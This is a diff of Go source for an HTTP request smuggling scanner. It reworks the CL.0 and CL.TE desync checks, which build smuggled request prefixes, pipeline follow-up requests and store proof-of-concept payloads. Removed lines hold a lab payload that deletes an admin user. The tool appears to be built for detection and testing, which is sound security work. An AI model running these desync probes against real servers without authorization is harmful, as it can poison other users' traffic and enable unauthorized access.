@@ -2,9 +2,12 @@ package smuggler
 
 import (
 	"fmt"
-	"smuggler/config"
+	"math"
+	"math/rand/v2"
+	"slices"
 	"smuggler/smuggler/h1"
 	"smuggler/smuggler/tests"
+	"smuggler/utils"
 
 	"github.com/rs/zerolog/log"
 )
@@ -13,74 +16,152 @@ type CL struct {
 	*DesyncerImpl
 }
 
-// here all CL... tests are run
-func (cl *CL) Run() bool {
-	if config.Glob.Concurrent {
-		defer cl.Wg.Done()
+// CL.0: the back-end ignores the Content-Length of the request, so the body is taken as the
+// start of the next request on the same connection. the body is a smuggled request prefix, and
+// a follow-up request is pipelined on the connection, if the follow-up gets the response of the
+// smuggled request, the issue is confirmed
+func (cl *CL) runCL0() bool {
+	log.Info().Str("endpoint", cl.URL.String()).Msg("Running CL.0 desync tests...")
+
+	path := fmt.Sprintf("/hopefully404-%d", rand.Int32N(math.MaxInt32))
+	base, err := cl.pipeline(cl.smuggledPl(path), cl.victimPl())
+	if err != nil {
+		log.Debug().Str("endpoint", cl.URL.String()).Err(err).Msg("CL.0 baseline failed")
+		return false
 	}
-	if !cl.H1Supported {
+	if base[0].Status == base[1].Status {
+		log.Info().
+			Str("endpoint", cl.URL.String()).
+			Str("status", "undetermined").
+			Msgf("CL.0 desync tests skipped: %s and %s both return %d", path, cl.URL.Path, base[0].Status)
 		return false
 	}
 
-	if config.Glob.ExitEarly {
-		return cl.runCL0() || cl.runCLTE() // for now
+	muts := cl.mutations(tests.CL)
+	if !slices.ContainsFunc(muts, func(m tests.Mutation) bool { return m.Key == "Content-Length" }) {
+		muts = append([]tests.Mutation{tests.Plain(tests.CL)}, muts...)
+	}
+
+	ctr := 0
+	for _, m := range muts {
+		if cl.cl0(m, path, base) {
+			ctr++
+			if cl.Opts.ExitEarly {
+				log.Info().
+					Str("endpoint", cl.URL.String()).
+					Str("status", "success").
+					Msgf("Test stopped on success: PoC payload stored in /result/%s directory", cl.URL.Hostname())
+				return true
+			}
+		}
+		select {
+		case <-cl.Ctx.Done():
+			return false
+		default:
+		}
+	}
+	if ctr > 0 {
+		log.Info().
+			Str("endpoint", cl.URL.String()).
+			Str("status", "success").
+			Msgf("finished CL.0 desync tests: PoC payload stored in /result/%s directory", cl.URL.Hostname())
 	} else {
-		cl.runCL0()
-		cl.runCLTE()
+		log.Info().
+			Str("endpoint", cl.URL.String()).
+			Str("status", "failure").
+			Msg("finished CL.0 desync tests: no issues found")
 	}
-	return true
+	return false
 }
 
-func (cl *CL) runCL0() bool {
-	ret, _ := cl.H1Test(cl.NewPl("Content-Length: 40"))
-	log.Info().Str("endpoint", cl.URL.String()).Msg("Running CL.0 desync tests...")
+// m holds the (possibly obfuscated) Content-Length header name, base holds the responses to
+// the smuggled and the follow-up request when they are sent on their own
+func (cl *CL) cl0(m tests.Mutation, path string, base []Probe) bool {
+	name := m.Key
+	prefix := fmt.Sprintf("GET %s HTTP/1.1\r\nX-Ignore: X", path)
+	attack := cl.NewPl("")
+	attack.Body = prefix
+	if name == "Content-Length" {
+		attack.Cl = len(prefix)
+	} else {
+		attack.HdrPl = fmt.Sprintf("%s: %d", name, len(prefix))
+	}
 
-	if ret == 1 {
-		log.Info().
+	var res []Probe
+	var err error
+	for i := 0; i < 2; i++ { // the first might be a fluke (a connection that isn't reused)
+		res, err = cl.pipeline(attack, cl.victimPl())
+		if err != nil {
+			log.Debug().Str("endpoint", cl.URL.String()).Str("payload", attack.HdrPl).Err(err).Msg("")
+			return false
+		}
+		if res[1].Status != base[0].Status {
+			return false // the follow-up wasn't affected
+		}
+	}
+
+	// the front-end might be the one ignoring the header, in which case the prefix is just
+	// a second request on our own connection. when it honours the header, it waits for a body
+	check := cl.NewPl("")
+	if name == "Content-Length" {
+		check.Cl = len(prefix) + 10
+	} else {
+		check.HdrPl = fmt.Sprintf("%s: %d", name, len(prefix)+10)
+	}
+	ret, _ := cl.H1Test(check)
+	if ret.Code != ProbeTimeout {
+		log.Debug().
 			Str("endpoint", cl.URL.String()).
-			Str("status", "undetermined").
-			Msg("Server might be vulnerable to CL.) desync attack. Further investigate manually")
-		// in this case, make another request and read response (make multiple requests and read multiple responses)
-		// body := "\r\n\r\nGET /admin/delete?username=carlos HTTP/1.1\r\nHost: 0a40000c03e54dcc82810b30007e000e.web-security-academy.net\r\n\r\n"
-		// pl := cl.NewPl(fmt.Sprintf("Content-Length: %d", len(body)))
-		// pl.Body = body
-		// cl.H1Test(pl)
-		return true
+			Str("payload", attack.HdrPl).
+			Msg("CL.0: the front-end doesn't honour the header")
+		return false
+	}
+
+	log.Info().
+		Str("endpoint", cl.URL.String()).
+		Str("mutation", m.ID).
+		Msgf("Potential CL.0 issue found - %s@%s://%s%s (follow-up got %d instead of %d)", cl.Method,
+			cl.URL.Scheme, cl.URL.Host, cl.URL.Path, res[1].Status, base[1].Status)
+	f := Finding{
+		Technique: CL0,
+		Header:    fmt.Sprintf("%s: %d", name, len(prefix)),
+		Mutation:  m.ID,
+		Probes:    []Probe{res[0], res[1], *ret},
+		Request:   res[0].Request + res[1].Request,
+		PoC:       []PoCRequest{h1PoC(0, attack), h1PoC(0, cl.victimPl())}, // pipelined
+		Signals: []Signal{ // each pipeline is sent on its own connection
+			{Name: "poisoned follow-ups", Ratio: math.Pow(pairRatio, 2)},
+			{Name: "front-end honours the header", Ratio: controlRatio},
+			freshConnSignal(true),
+		},
+	}
+	f.Confidence = confidence(f.Signals)
+	if !cl.addFinding(f) {
+		return false
 	}
-	log.Debug().Msg("Nothing found")
+	cl.writeReport(attack.URL.Query().Get("t"), utils.HexEscapeNonPrintable(f.Request))
 	return true
 }
 
 func (cl *CL) runCLTE() bool {
 	log.Info().Str("endpoint", cl.URL.String()).Msg("Running CL.TE desync tests...")
-	generator := tests.Generator{}
-	payload := generator.Generate(tests.TE, config.Glob.Test)
-
 	ctr := 0
-	for k, vv := range payload {
-		for _, v := range vv {
-			payload := cl.NewPl(fmt.Sprintf("%s:%s", k, v)) // header key-value pair to be directly added in request hdr
-			if cl.clte(payload) {
-				ctr++
-				if config.Glob.ExitEarly {
-					log.Info().
-						Str("endpoint", cl.URL.String()).
-						Str("status", "success").
-						Msgf("Test stopped on success: PoC payload stored in /result/%s directory", cl.URL.Hostname())
-					if config.Glob.Concurrent {
-						cl.TestDone <- struct{}{}
-					}
-					return true
-				}
-			}
-			if config.Glob.Concurrent {
-				select {
-				case <-cl.Ctx.Done():
-					return false
-				default:
-				}
+	for _, m := range cl.mutations(tests.TE) {
+		if cl.clte(m) {
+			ctr++
+			if cl.Opts.ExitEarly {
+				log.Info().
+					Str("endpoint", cl.URL.String()).
+					Str("status", "success").
+					Msgf("Test stopped on success: PoC payload stored in /result/%s directory", cl.URL.Hostname())
+				return true
 			}
 		}
+		select {
+		case <-cl.Ctx.Done():
+			return false
+		default:
+		}
 	}
 	if ctr > 0 { // if eos, it shouldn't even come here on success
 		log.Info().
@@ -97,19 +178,21 @@ func (cl *CL) runCLTE() bool {
 }
 
 // i may have a list of body payloads to try
-func (d *CL) clte(p *h1.Payload) bool {
+func (d *CL) clte(m tests.Mutation) bool {
+	p := d.NewPl(m.Line()) // header key-value pair to be directly added in request hdr
 	p.Body = "1\r\nG\r\n0\r\n\r\n"
 	p.Cl = 4
+	hdr := p.HdrPl
 
 	ctr := 0
 	for {
 		ret, err := d.H1Test(p)
-		if ret != 1 {
-			if ret == -1 {
+		if ret.Code != ProbeTimeout {
+			if ret.Code == ProbeError {
 				log.Debug().
 					Str("endpoint", d.URL.String()).
 					Str("payload", p.HdrPl).Err(err).Msg("")
-			} else if ret == 2 {
+			} else if ret.Code == ProbeDisconnected {
 				log.Debug().
 					Str("endpoint", d.URL.String()).
 					Msg("disconnected before timeout")
@@ -118,29 +201,49 @@ func (d *CL) clte(p *h1.Payload) bool {
 		}
 		p.Cl = 11
 		ret2, err := d.H1Test(p)
-		if ret2 == -1 {
+		if ret2.Code == ProbeError {
 			log.Debug().
 				Str("endpoint", d.URL.String()).Err(err).Msg("")
 			return false
 		}
 		p.Cl = 4
-		if ret2 == 0 {
+		if ret2.Code == ProbeNormal {
 			ctr++
 			if ctr < 3 {
 				continue
 			}
+			if !d.recheck(false) {
+				return false
+			}
+			ctl := d.h1Control(p)
 			log.Info().
 				Str("endpoint", d.URL.String()).
+				Str("mutation", m.ID).
 				Msgf("Potential CL.TE issue found - %s@%s://%s%s", d.Method,
 					d.URL.Scheme, d.URL.Host, d.URL.Path)
-			inner := "GET /admin/delete?username=carlos HTTP/1.1\r\nHost: localhost\r\nContent-Length: 50\r\n\r\n"
-			tmp := fmt.Sprintf("1\r\nA\r\n0\r\n\r\n%s", inner) // host would be taken from a url given by the user
-			p.Body = tmp
+			f := Finding{
+				Technique: CLTE,
+				Header:    hdr,
+				Mutation:  m.ID,
+				Probes:    []Probe{*ret, *ret2},
+				Signals:   d.timingSignals(false, ctr, ctl, true), // a connection per probe
+				Controls:  []Probe{*ctl},
+			}
+			f.Confidence = confidence(f.Signals)
+			if d.Opts.Confirm {
+				if f.Evidence, f.Confirmed = d.confirmH1(func(prefix string) *h1.Payload {
+					a := d.NewPl(hdr)
+					a.Body = "0\r\n\r\n" + prefix
+					a.Cl = len(a.Body)
+					return a
+				}); !f.Confirmed {
+					return false
+				}
+			}
+			// the reported request smuggles a GET of a missing path, it is never sent
+			p.Body = "0\r\n\r\n" + smuggledPrefix("/hopefully404")
 			p.Cl = len(p.Body)
-			// d.H1Test(p) //
-			// d.H1Test(p) // to make sure the queued req proceeds
-			d.GenReport(p)
-			return true
+			return d.GenReport(p, f)
 		}
 		log.Debug().
 			Str("endpoint", d.URL.String()).